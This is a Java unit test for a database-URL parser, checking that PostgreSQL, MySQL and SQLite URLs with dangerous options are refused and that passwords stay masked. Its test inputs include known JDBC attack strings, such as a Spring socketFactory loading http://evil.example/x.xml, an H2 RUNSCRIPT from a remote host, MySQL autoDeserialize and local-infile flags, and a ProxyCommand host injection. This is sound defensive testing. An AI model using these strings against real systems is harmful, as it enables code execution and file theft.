package dev.belay.target;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.belay.message.BelayException;
import dev.belay.message.ExitCode;
import dev.belay.message.Problem;
import dev.belay.testing.Around;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Path;
import java.util.Random;

/** URLs that try to make a driver do something else than connect, and URLs that are just wrong. */
class HostileUrlTest {
    private static final String CANARY = "c4n4ry-s3cr3t";

    @TempDir Path folder;

    private Problem refusal(String url) {
        BelayException refused =
                catchThrowableOfType(
                        BelayException.class, () -> TargetUrl.parse(url, Around.in(folder)));
        assertThat(refused).as("%s must be refused", url).isNotNull();
        assertThat(refused.problem().exit()).isEqualTo(ExitCode.USAGE);
        return refused.problem();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "socketFactoryArg=http://evil.example/x.xml",
                "sslfactory=evil.Factory",
                "sslfactoryarg=x",
                "sslpasswordcallback=evil.Callback",
                "sslhostnameverifier=evil.Verifier",
                "sslpassword=x",
                "loggerFile=/etc/cron.d/x",
                "loggerLevel=TRACE",
                "authenticationPluginClassName=evil.Plugin",
                "xmlFactoryFactory=LEGACY_INSECURE",
                "jaasApplicationName=x",
                "gsslib=gssapi",
                "krbsrvname=x",
                "passfile=/etc/passwd",
                "hostaddr=10.0.0.1",
                "replication=database",
                "preferQueryMode=simple",
                "logServerErrorDetail=true",
                "maxResultBuffer=100G",
                "localSocketAddress=10.0.0.1",
                "options=-c%20session_preload_libraries=evil",
                "options=-c%20search_path=a%20-c%20role=postgres",
                "sslcrl=/tmp/x",
                "require_auth=none",
                "sslnegotiation=direct",
                "unknownOption=1",
                "service%00=x",
            })
    void anOptionOfPostgresqlThatCouldDoHarmIsRefused(String option) {
        for (String scheme : new String[] {"postgresql", "jdbc:postgresql"}) {
            Problem problem = refusal(scheme + "://db-7/shop?" + option);
            assertThat(problem.key()).startsWith("target.url.");
        }
    }

    @Test
    void aRefusalNamesTheOptionAndSaysWhatNext() {
        Problem problem = refusal("postgresql://app:" + CANARY + "@db-7/shop?socketFactory=e.F");
        assertThat(problem.line())
                .startsWith("read the URL on postgresql://app:•••@db-7/shop?socketFactory=e.F: ")
                .contains("option socketFactory is not accepted");
        assertThat(problem.next()).contains("Remove the option");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "autoDeserialize=true",
                "allowLoadLocalInfile=true",
                "allowLocalInfile=true",
                "allowUrlInLocalInfile=true",
                "queryInterceptors=evil.Interceptor",
                "authenticationPlugins=evil.Plugin",
                "propertiesTransform=evil.Transform",
                "socketFactory=evil.Factory",
                "serverRsaPublicKeyFile=/etc/passwd",
                "credentialType=x",
                "sessionVariables=sql_mode=''",
                "allowMultiQueries=true",
                "currentSchema=x",
            })
    void anOptionOfMysqlThatCouldDoHarmIsRefused(String option) {
        for (String scheme :
                new String[] {"mysql", "mariadb", "jdbc:mysql", "jdbc:mariadb", "mysql+pymysql"}) {
            assertThat(refusal(scheme + "://db-7/shop?" + option).key())
                    .isEqualTo("target.url.option");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "enable_load_extension=true",
                "vfs=unix-none",
                "mode=rwc",
                "cache=shared",
                "immutable=1",
                "nolock=1",
                "open_mode=6",
                "uri=true",
                "password=x",
                "hexkey_mode=sse",
                "limit_attached=10",
                "temp_store_directory=/etc",
                "trusted_schema=on",
                "unknown=1",
            })
    void anOptionOfSqliteThatCouldDoHarmIsRefused(String option) {
        assertThat(refusal("sqlite:/abs/x.db?" + option).key()).isEqualTo("target.url.option");
        assertThat(refusal("jdbc:sqlite:/abs/x.db?" + option).key()).isEqualTo("target.url.option");
    }

    @ParameterizedTest
    @CsvSource({
        "sqlite:, target.url.memory",
        "sqlite://, target.url.memory",
        "sqlite:///, target.url.memory",
        "sqlite::memory:, target.url.memory",
        "jdbc:sqlite::memory:, target.url.memory",
        "sqlite:///:memory:, target.url.memory",
        "jdbc:sqlite:, target.url.memory",
        "jdbc:sqlite::resource:evil.db, target.url.file-uri",
        "jdbc:sqlite::resource:http://evil.example/x.db, target.url.file-uri",
        "sqlite::resource:x.db, target.url.file-uri",
        "sqlite:file:x.db?mode=memory, target.url.option",
        "sqlite:file:x.db, target.url.file-uri",
        "jdbc:sqlite:file:/abs/x.db, target.url.file-uri",
        "sqlite:%66ile:x.db, target.url.file-uri",
        "sqlite://host/x.db, target.url.file-host",
        "sqlite:/, target.url.folder",
        "sqlite:/abs/, target.url.folder",
        "sqlite:/abs/%00x.db, target.url.escape",
        "sqlite:/abs/100%.db, target.url.escape",
        "sqlite:/abs/%C3.db, target.url.escape",
    })
    void whatIsNoFileOfItsOwnIsNoTarget(String url, String key) {
        assertThat(refusal(url).key()).isEqualTo(key);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "shop | target.url.scheme",
                "http://db-7/shop | target.url.scheme",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql' | target.url.scheme",
                "jdbc:oracle:thin:@//db-7/x | target.url.scheme",
                "jdbc:mysql:loadbalance://a,b/shop | target.url.form",
                "jdbc:mysql:replication://a,b/shop | target.url.form",
                "mysql:shop | target.url.form",
                "jdbc:mysql://(host=db-7,port=1)/shop | target.url.hosts",
                "jdbc:mysql://address=(host=db-7)/shop | target.url.host",
                "postgresql://a,b/shop | target.url.hosts",
                "postgresql://a:1,b:2/shop | target.url.hosts",
                "postgresql:///shop?host=a,b | target.url.hosts",
                "postgresql://%2Fvar%2Frun%2Fpostgresql/shop | target.url.socket",
                "postgresql:///shop?host=/var/run/postgresql | target.url.socket",
                "postgresql:///shop?host=@abstract | target.url.at-sign",
                "postgresql://-oProxyCommand=x/shop | target.url.host",
                "postgresql://db 7/shop | target.url.host",
                "postgresql://db%2F7/shop | target.url.host",
                "postgresql://[::1/shop | target.url.host",
                "postgresql://[::1]x/shop | target.url.host",
                "postgresql://[fe80::1%25eth0]/shop | target.url.host",
                "postgresql://::1/shop | target.url.host",
                "postgresql://db-7:0/shop | target.url.port",
                "postgresql://db-7:65536/shop | target.url.port",
                "postgresql://db-7:x/shop | target.url.port",
                "postgresql://db-7/shop?sslmode=loose | target.url.option-invalid",
                "postgresql://db-7/shop?channel_binding=x | target.url.option-invalid",
                "postgresql://db-7/shop?sslmode | target.url.option-value",
                "postgresql://db-7/shop?sslmode=require&ssl_mode=disable | target.url.option-twice",
                "postgresql://a@db-7/shop?user=b | target.url.option-twice",
                "postgresql://db-7/shop?host=c | target.url.option-twice",
                "postgresql://db-7 | target.url.database",
                "postgresql://db-7/sh%op | target.url.escape",
                "postgresql://db-7/shop%00 | target.url.escape",
                "postgresql://db-7/shop%ED%A0%80 | target.url.escape",
                "postgresql://db-7/shop?sslrootcert=/no/such.pem | target.tls.root",
                "postgresql://db-7/shop?sslcert=/no/such.pem | target.tls.certificate",
                "postgresql://db-7/shop?sslkey=/no/such.pem | target.tls.key",
                "postgresql:///?service=nowhere | target.service",
            })
    void whatIsWrongIsSaid(String url, String key) {
        assertThat(refusal(url).key()).isEqualTo(key);
    }

    @Test
    void aLineBreakOrNulWithinIsRefused() {
        assertThat(refusal("postgresql://db-7/sh\nop").key()).isEqualTo("target.url.control");
        assertThat(refusal("sqlite:/a\0b").key()).isEqualTo("target.url.control");
        assertThat(refusal("sqlite:/a\u001B[31mb").line()).doesNotContain("\u001B");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "postgresql://app:%s@db-7:x/shop",
                "postgresql://app:%s@db 7/shop",
                "postgresql://app:%s/x@db-7/shop",
                "postgresql://app:x?%s@db-7/shop",
                "postgresql://app:x?a=%s@db-7/shop",
                "postgresql://app:x?%s=1@db-7/shop",
                "postgresql://app:x/%s@db-7/shop",
                "postgresql://app:x%%%s@db-7/shop",
                "postgresql://app:%s",
                "postgresql://app:%s/shop",
                "postgresql://:%s@/",
                "postgresql:app:%s@db-7/shop",
                "postgresql:/app:%s@db-7/shop",
                "http://app:%s@db-7/shop",
                "jdbc:postgresql://db-7/shop?user=a&password=%s&socketFactory=x",
                "jdbc:postgresql://db-7/shop?user=a&password=x&%s",
                "jdbc:postgresql://db-7/shop?PassWord=%s&x=y",
                "jdbc:postgresql://db-7:x/shop?user=a&password=x&%s=1",
                "postgresql://app:%s@db-7/shop\nx",
                "jdbc:mysql:loadbalance://app:%s@a,b/shop",
                "postgresql://app:%s@a,b/shop",
                "postgresql://app:%s@db-7/shop?vfs=x",
                "jdbc:oracle:thin:app/x:%s@db-7",
                "app:%s@db-7/shop",
            })
    void howeverBadlyAUrlIsWrittenItsPasswordIsNotShown(String url) {
        Problem problem = refusal(url.formatted(CANARY));
        assertThat(problem.copyText()).doesNotContain(CANARY);
        assertThat(problem.toString()).doesNotContain(CANARY);
    }

    @Test
    void noiseIsRefusedAndNeverBreaksTheParser() {
        Random random = new Random(7);
        String alphabet = "ab1:/@?&=%[]#,.-+ \\\"'$\u00E4\u202E";
        String[] heads = {"postgresql://", "sqlite:", "jdbc:sqlite:", "mysql://", "jdbc:", ""};
        for (int i = 0; i < 5_000; i++) {
            StringBuilder url = new StringBuilder(heads[i % heads.length]);
            for (int n = random.nextInt(24); n >= 0; n--) {
                url.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            try {
                TargetUrl parsed = TargetUrl.parse(url.toString(), Around.in(folder));
                assertThat(TargetUrl.parse(parsed.withoutPassword(), Around.in(folder)).address())
                        .as(url.toString())
                        .isEqualTo(parsed.address());
            } catch (BelayException refused) {
                assertThat(refused.problem().exit()).isEqualTo(ExitCode.USAGE);
            }
        }
    }
}
